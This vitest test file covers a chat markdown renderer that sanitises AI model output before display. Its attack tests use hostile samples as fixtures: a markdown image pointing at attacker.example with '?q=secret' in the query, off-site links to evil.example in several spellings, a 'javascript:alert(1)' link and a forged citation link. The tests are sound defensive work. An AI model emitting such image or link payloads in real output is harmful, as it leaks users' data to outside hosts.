import type { SourceUrlUIPart } from "ai";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { ChatMarkdown, sitePathOf } from "./chat-markdown";
import { citedSourceIds } from "./citations";

const sources: SourceUrlUIPart[] = [
  { type: "source-url", sourceId: "1", url: "/blog/onnx#serving", title: "ONNX › Serving" },
  { type: "source-url", sourceId: "2", url: "/resume#education", title: "Resume › Education" },
];
const render = (text: string) => renderToStaticMarkup(<ChatMarkdown text={text} sources={sources} />);
const hrefs = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);

describe("ChatMarkdown", () => {
  it("attack: a forged [[1]](https://evil.example \"cite:1\") is not a citation and not a link; a real [1] links to the server's source 1", () => {
    const html = render('See [[1]](https://evil.example "cite:1") and [1].');
    expect(html).not.toContain("evil.example");
    expect(hrefs(html)).toEqual(["/blog/onnx#serving"]);
    expect(html.match(/data-citation/g)).toHaveLength(1);
    expect(html).toContain('aria-label="Source 1: ONNX › Serving"');
  });

  it("attack: an off-site image in model output renders no <img>, so the browser fetches nothing", () => {
    for (const text of ["![x](https://attacker.example/p.png?q=secret)", "![x][p]\n\n[p]: https://attacker.example/p.png", '<img src="https://attacker.example/p.png">']) {
      const html = render(text);
      expect(html).not.toContain("<img");
      expect(html).not.toContain("attacker.example");
    }
  });

  it("attack: links out of the site become plain text, whatever their spelling", () => {
    const offSite = ["[a](https://evil.example/x)", "[a](//evil.example/x)", "[a](/\\evil.example/x)", "[a](javascript:alert(1))", "<https://evil.example/x>", "www.evil.example/x", "[a][r]\n\n[r]: https://evil.example/x", "[1]\n\n[1]: https://evil.example/x"];
    for (const text of offSite) {
      // Every href left must stay on this origin as the browser resolves it (`/\\host` is encoded to a harmless `/%5Chost`).
      for (const href of hrefs(render(text))) expect(new URL(href!, "http://site.invalid/a/b").origin, text).toBe("http://site.invalid");
    }
    expect(hrefs(render("[a](https://evil.example/x)"))).toEqual([]);
    expect(render("[a](https://evil.example/x)")).toContain("<span data-unlinked=\"true\">a</span>");
  });

  it("keeps links into the site, as paths", () => {
    expect(hrefs(render("[my resume](/resume#education) and [post](http://site.invalid/blog/x?y=1#z)"))).toEqual(["/resume#education", "/blog/x?y=1#z"]);
  });

  it("links only numbers the server sent, never inside code, and never raw HTML", () => {
    const html = render("Claims [3] and `[1]` and <b>[2]</b> [2]");
    expect(hrefs(html)).toEqual(["/resume#education"]);
    expect(html).toContain("[3]");
    expect(html).not.toContain("<b>");
  });
});

describe("citedSourceIds", () => {
  it("counts [n] naming a sent source, not link syntax", () => {
    expect(citedSourceIds("[1] [2](x) [9] [1]", sources)).toEqual(new Set(["1"]));
  });
});

describe("sitePathOf", () => {
  it("answers a path for this site only", () => {
    expect(sitePathOf("/a#b")).toBe("/a#b");
    expect(sitePathOf("https://evil.example/a")).toBeUndefined();
    expect(sitePathOf(undefined)).toBeUndefined();
  });
});
